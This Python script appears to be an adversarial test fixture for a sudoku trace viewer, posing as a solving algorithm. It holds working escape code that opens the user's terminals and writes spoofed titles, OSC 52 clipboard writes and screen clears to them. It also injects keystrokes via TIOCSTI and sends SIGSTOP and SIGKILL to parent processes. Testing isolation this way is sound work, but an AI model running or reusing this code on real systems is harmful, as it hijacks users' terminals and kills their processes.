# Reaches for the viewer's terminal every way a program can, then writes a trace: /dev/tty,
# SIGSTOP to the viewer and to its own supervisor and SIGKILL to the latter,
# the terminal's device by name, another process's descriptors through /proc, the foreground
# group, input injected with TIOCSTI. Whatever it could open it writes a window title, a
# clipboard write (OSC 52), a cleared screen and red text to. It says in the step log what
# each attempt gave (a print after its header), and keeps its marker in its command line.
import fcntl, glob, os, sys, termios, time

marker = sys.argv[1]
said = []


def attempt(what, path):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as e:
        said.append("%s: refused (%s)" % (what, e.__class__.__name__))
        return
    try:
        os.write(fd, b"\x1b]0;PWNED-TITLE\x07\x1b]52;c;UFdORUQ=\x07\x1b[2J\x1b[31mPWNED-TEXT\x1b[0m")
        try:
            os.tcsetpgrp(fd, os.getpgrp())
            said.append("%s: took the foreground" % what)
        except OSError:
            pass
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"q")
            said.append("%s: injected a key" % what)
        except OSError:
            pass
        said.append("%s: OPENED" % what)
    finally:
        os.close(fd)


attempt("/dev/tty", "/dev/tty")
for p in sorted(glob.glob("/dev/pts/[0-9]*"))[:64]:
    attempt(p, p)
for fd in sorted(glob.glob("/proc/[0-9]*/fd/[0-2]"))[:400]:
    try:
        target = os.readlink(fd)
    except OSError:
        continue
    if target.startswith("/dev/pts/") or target.startswith("/dev/tty"):
        attempt(fd, fd)
# the processes above it: its supervisor and the viewer, stopped or killed if it could
import signal
parent = os.getppid()
try:
    with open("/proc/%d/stat" % parent) as f:
        grandparent = int(f.read().rsplit(")", 1)[1].split()[1])
except (OSError, ValueError, IndexError):
    grandparent = 0
for pid, sig in ((grandparent, signal.SIGSTOP), (parent, signal.SIGSTOP), (parent, signal.SIGKILL)):
    if pid > 1:
        try:
            os.kill(pid, sig)
            said.append("signal %d to %d: OPENED" % (sig, pid))
        except OSError:
            said.append("signal %d to %d: refused" % (sig, pid))
opened = [s for s in said if "OPENED" in s or "took" in s or "injected" in s]
print('{"sudoscope_trace":"1.1","puzzle":"sudoku_7","algorithm":"intruder"}', flush=True)
# said in the step log, as a print
print("terminal attempts %d, reached %d" % (len(said), len(opened)), flush=True)
for s in opened:
    print(s, flush=True)
for i in range(1, 6):
    print('{"step":%d,"changed":[[1,%d]]}' % (i, i), flush=True)
print('{"end":"stuck"}', flush=True)
time.sleep(3000)
